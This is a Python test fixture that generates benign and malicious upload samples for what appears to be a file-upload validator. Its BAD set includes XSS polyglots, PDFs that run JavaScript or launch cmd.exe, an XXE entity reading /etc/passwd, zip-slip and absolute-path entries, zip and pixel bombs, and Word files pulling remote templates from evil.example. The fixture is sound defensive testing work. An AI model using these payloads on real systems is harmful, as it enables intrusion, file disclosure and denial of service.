"""Files that people bring, good and bad, made on the spot. Name -> (file name, content)."""

import io
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from PIL import Image

from tests.visits import outlookfile

OOXML = "application/vnd.openxmlformats-officedocument"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {
    "docx": ("word/document.xml", f"{OOXML}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OOXML}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OOXML}.presentationml.presentation.main+xml"),
}
Corpus = dict[str, tuple[str, bytes]]


def pdf(*, encrypted: str = "", **root: object) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    for key, value in root.items():
        document.Root[f"/{key}"] = value
    target = io.BytesIO()
    lock = pikepdf.Encryption(user=encrypted, owner=encrypted) if encrypted else False
    document.save(target, encryption=lock, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return target.getvalue()


def pdf_with_attachment() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["a.txt"] = b"hidden"
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def pdf_with_page_action(action: pikepdf.Dictionary) -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page()
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action
    )
    page.Annots = document.make_indirect(pikepdf.Array([link]))
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def picture(kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size, "#0058a3").save(target, kind)
    return target.getvalue()


def huge_png(side: int) -> bytes:
    """A PNG that says it is enormous, in a few bytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(name + data).to_bytes(4, "big")
        return len(data).to_bytes(4, "big") + name + data + crc

    header = side.to_bytes(4, "big") * 2 + bytes([1, 0, 0, 0, 0])
    body = chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + body + chunk(b"IEND", b"")


def package(parts: Mapping[str, str | bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def office(kind: str, more: Mapping[str, str | bytes] | None = None, **changed: str) -> bytes:
    part, content_type = MAIN[kind]
    types = changed.get("types", f'<Override PartName="/{part}" ContentType="{content_type}"/>')
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f"<Types>{types}</Types>",
        "_rels/.rels": "<Relationships/>",
        part: changed.get("main", f"<document>{'Hej å ä ö ' * 20}</document>"),
    }
    return package(parts | dict(more or {}))


def relation(kind: str, target: str) -> dict[str, str]:
    return {
        "word/_rels/document.xml.rels": f'<Relationships><Relationship Id="r1" '
        f'Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    }


def odt(**parts: str | bytes) -> bytes:
    content: dict[str, str | bytes] = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": "<office:document-content>Hej</office:document-content>",
        "META-INF/manifest.xml": "<manifest/>",
    }
    return package(content | parts)


def with_entry(name: str, *, mode: int = 0, flags: int = 0) -> bytes:
    """A docx with one entry more, of an unusual kind."""
    target = io.BytesIO(office("docx"))
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = mode << 16
        archive.writestr(entry, "x")
    return target.getvalue()


def encrypted_zip() -> bytes:
    content = bytearray(office("docx"))
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


MAIL = (
    b"From: Anna <anna@example.org>\r\nTo: stad@example.org\r\nSubject: Visit\r\n"
    b"Content-Type: text/html\r\n\r\n<html><body>Hello</body></html>\r\n"
)
JS = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
LAUNCH = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
LINK = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/JS/JavaScript")
PDF, PNG, JPEG, DOCX = pdf(), picture("PNG"), picture("JPEG"), office("docx")

GOOD: Corpus = {
    "a PDF": ("brev.pdf", PDF),
    "a PDF with a web link that only looks active": ("länk.pdf", pdf_with_page_action(LINK)),
    "a PDF whose title only looks active": ("t.pdf", pdf(Note="see /JS and /Launch")),
    "a PDF with a newline at the end": ("slut.pdf", PDF + b"\r\n"),
    "capitals in the name": ("BREV.PDF", PDF),
    "a PNG": ("karta.png", PNG),
    "a JPEG": ("foto.jpg", JPEG),
    "a JPEG with the long ending": ("foto.jpeg", JPEG),
    "a Word file": ("avtal.docx", DOCX),
    "a Word file with a web link": (
        "länk.docx",
        office("docx", relation("hyperlink", "https://example.org")),
    ),
    "an Excel file": ("lista.xlsx", office("xlsx")),
    "a PowerPoint file": ("bilder.pptx", office("pptx")),
    "an OpenDocument text": ("text.odt", odt()),
    "text in UTF-8": ("rad.txt", "Łódź, Київ och Örebro".encode()),
    "text with a byte order mark": ("bom.txt", b"\xef\xbb\xbfHej"),
    "text in Latin-1": ("latin.txt", "Åsa åt ägg på ön. ".encode("latin-1") * 9),
    "text with a smaller-than sign": ("mått.txt", b"5 < 6 and a<b"),
    "CSV": ("tabell.csv", "namn;år\nÅsa;2026\n".encode()),
    "an e-mail with an HTML body": ("mejl.eml", MAIL),
    "an e-mail in Japanese": ("jp.eml", MAIL + "視察の件".encode("iso-2022-jp")),
    "an e-mail in Chinese": ("cn.eml", MAIL + "关于访问".encode("gb2312") * 99),
    "an e-mail that passed many servers": (
        "resa.eml",
        b"Received: from a by b; Mon, 2 Nov 2026 10:00:00 +0100\r\n" * 99 + MAIL,
    ),
    "an e-mail that Outlook saved": ("mejl.msg", outlookfile.msg(body="Hej")),
    "an e-mail from a mailbox file": ("mejl2.eml", b"From anna@example.org\r\n" + MAIL),
}

BAD: Corpus = {
    "nothing": ("tom.pdf", b""),
    "no extension": ("brev", PDF),
    "a programme": ("setup.exe", b"MZ\x90\0" + b"\0" * 99),
    "a programme as text": ("readme.txt", b"MZ\x90\0" + b"\0" * 99),
    "SVG": ("bild.svg", b"<svg onload=alert(1)>"),
    "SVG as text": ("bild.txt", b"<svg onload=alert(1)>"),
    "HTML": ("sida.html", b"<html>"),
    "HTML as text": ("sida.txt", b"\n\n <!DOCTYPE html><p>hi"),
    "a script far into a text": ("lång.txt", b"a" * 65_530 + b"<script>alert(1)</script>"),
    "HTML as CSV": ("t.csv", b"a;b\n<iframe src=x>;1\n"),
    "PHP as text": ("t.txt", b"<?php phpinfo();"),
    "HTML as e-mail": ("m.eml", b"<html>From: a\nTo: b\n"),
    "PDF as e-mail": ("m.eml", PDF + MAIL),
    "an e-mail with NUL": ("m.eml", MAIL + b"\0"),
    "an e-mail that Outlook saved, cut off": ("m.msg", outlookfile.msg(body="Hej")[:900]),
    "an e-mail as one that Outlook saved": ("m.msg", MAIL),
    "an old Word file as e-mail": (
        "m.msg",
        outlookfile.container({"WordDocument": b"Hej" * 2000}),
    ),
    "text as e-mail": ("m.eml", b"Hej!\n\nFrom: nobody\n"),
    "text with NUL": ("nul.txt", b"a\0b"),
    "UTF-16": ("u.txt", "Hej på dig".encode("utf-16")),
    "noise as text": ("brus.txt", bytes(range(128, 256)) * 40),
    "PNG as PDF": ("bild.pdf", PNG),
    "PDF as PNG": ("brev.png", PDF),
    "PDF as text": ("brev.txt", PDF),
    "GIF": ("bild.gif", b"GIF89a" + b"\0" * 20),
    "GIF with script as JPEG": ("bild.jpg", b"GIF89a/*" + b"\0" * 20 + b"*/=alert(1)"),
    "zip as Word": ("z.docx", package({"a.txt": "hej"})),
    "Excel as Word": ("x.docx", office("xlsx")),
    "zip": ("z.zip", package({"a.txt": "hej"})),
    "a PDF cut off": ("halv.pdf", PDF[: len(PDF) // 2]),
    "a PDF without its table": ("trasig.pdf", b"%PDF-1.7\nrubbish\n%%EOF"),
    "a PDF with junk before": ("före.pdf", b"junk" + PDF),
    "a PDF with a page after it": ("efter.pdf", PDF + b"<html><script>alert(1)</script>"),
    "a PDF that is a page": ("sida.pdf", PDF.replace(b"\n", b"\n%<script>1</script>\n", 1)),
    "a PDF that is a zip": ("zip.pdf", PDF + DOCX),
    "a PDF with a password": ("låst.pdf", pdf(encrypted="hemligt")),
    "a PDF that runs a script": ("js.pdf", pdf(OpenAction=JS)),
    "a PDF that starts a programme": ("start.pdf", pdf(OpenAction=LAUNCH)),
    "a PDF with a script on a page": ("knapp.pdf", pdf_with_page_action(JS)),
    "a PDF that sends a form": (
        "skicka.pdf",
        pdf_with_page_action(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://x.example")),
    ),
    "a PDF with a file in it": ("bilaga.pdf", pdf_with_attachment()),
    "a PDF with an XFA form": ("xfa.pdf", pdf(AcroForm=pikepdf.Dictionary(XFA="x"))),
    "a PNG cut off": ("halv.png", PNG[:-9]),
    "a PNG with a wrong checksum": ("crc.png", PNG[:45] + b"\0\0" + PNG[47:]),
    "a PNG of 400 million pixels": ("stor.png", huge_png(20_000)),
    "a PNG of 100 million pixels": ("stor2.png", huge_png(10_000)),
    "a PNG with a zip behind": ("zip.png", PNG + DOCX),
    "a JPEG cut off": ("halv.jpg", JPEG[: len(JPEG) // 2]),
    "a JPEG with a script behind": ("js.jpg", JPEG + b"*/alert(1)"),
    "a JPEG with a page in it": ("sida.jpg", JPEG[:20] + b"<script>alert(1)</script>" + JPEG[20:]),
    "a Word file cut off": ("halv.docx", DOCX[: len(DOCX) // 2]),
    "a Word file with junk before": ("f.docx", b"%PDF-1.7" + DOCX),
    "a Word file with something behind": ("e.docx", DOCX + b"<script>"),
    "a Word file with a wrong checksum": (
        "crc.docx",
        DOCX.replace(b"PK\x01\x02", b"PK\x01\x02", 1).replace(
            zlib.crc32(b"<Relationships/>").to_bytes(4, "little"), b"\1\2\3\4"
        ),
    ),
    "a Word file with macros": ("m.docx", office("docx", {"word/vbaProject.bin": b"x"})),
    "a macro file under another name": (
        "m2.docx",
        office("docx", types="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "a template from elsewhere": (
        "mall.docx",
        office("docx", relation("attachedTemplate", "https://evil.example/t.dotm")),
    ),
    "a picture from elsewhere": (
        "spår.docx",
        office("docx", relation("image", "https://evil.example/p.png")),
    ),
    "an object from elsewhere": (
        "obj.docx",
        office("docx", relation("oleObject", "file://server/share")),
    ),
    "an entity from elsewhere": (
        "xxe.docx",
        office("docx", main='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    ),
    "an entity in the relations": (
        "xxe2.docx",
        office("docx", {"word/_rels/a.rels": '<!DOCTYPE a [<!ENTITY x "y">]><a/>'}),
    ),
    "a zip bomb": ("bomb.docx", office("docx", {"word/big.bin": b"\0" * 30_000_000})),
    "a zip of too many parts": (
        "många.docx",
        office("docx", {f"word/{n}.bin": b"" for n in range(2_001)}),
    ),
    "a zip in a zip": ("nästad.docx", office("docx", {"word/inner.zip": package({"a": "b"})})),
    "a zip in a zip under another name": (
        "nästad2.docx",
        office("docx", {"word/media/image1.bin": package({"a": "b"})}),
    ),
    "an old Office object": ("ole.docx", office("docx", {"word/embeddings/oleObject1.bin": b"x"})),
    "a link out of the zip": ("länk.docx", with_entry("word/link", mode=0o120777)),
    "a path out of the zip": ("slip.docx", with_entry("../../etc/cron.d/x")),
    "an absolute path": ("abs.docx", with_entry("/etc/passwd")),
    "a path with a drive": ("c.docx", with_entry("c:/autoexec.bat")),
    "a locked zip": ("lås.docx", encrypted_zip()),
    "an OpenDocument text with a macro": ("m.odt", odt(**{"Basic/Standard/a.xml": "<x/>"})),
    "an OpenDocument picture from elsewhere": (
        "p.odt",
        odt(
            **{
                "styles.xml": '<draw:image xlink:type="simple" xlink:href="https://evil.example/p"/>'
            }
        ),
    ),
    "an OpenDocument sheet as text": ("ods.odt", odt(mimetype="application/vnd.oasis.spreadsheet")),
}
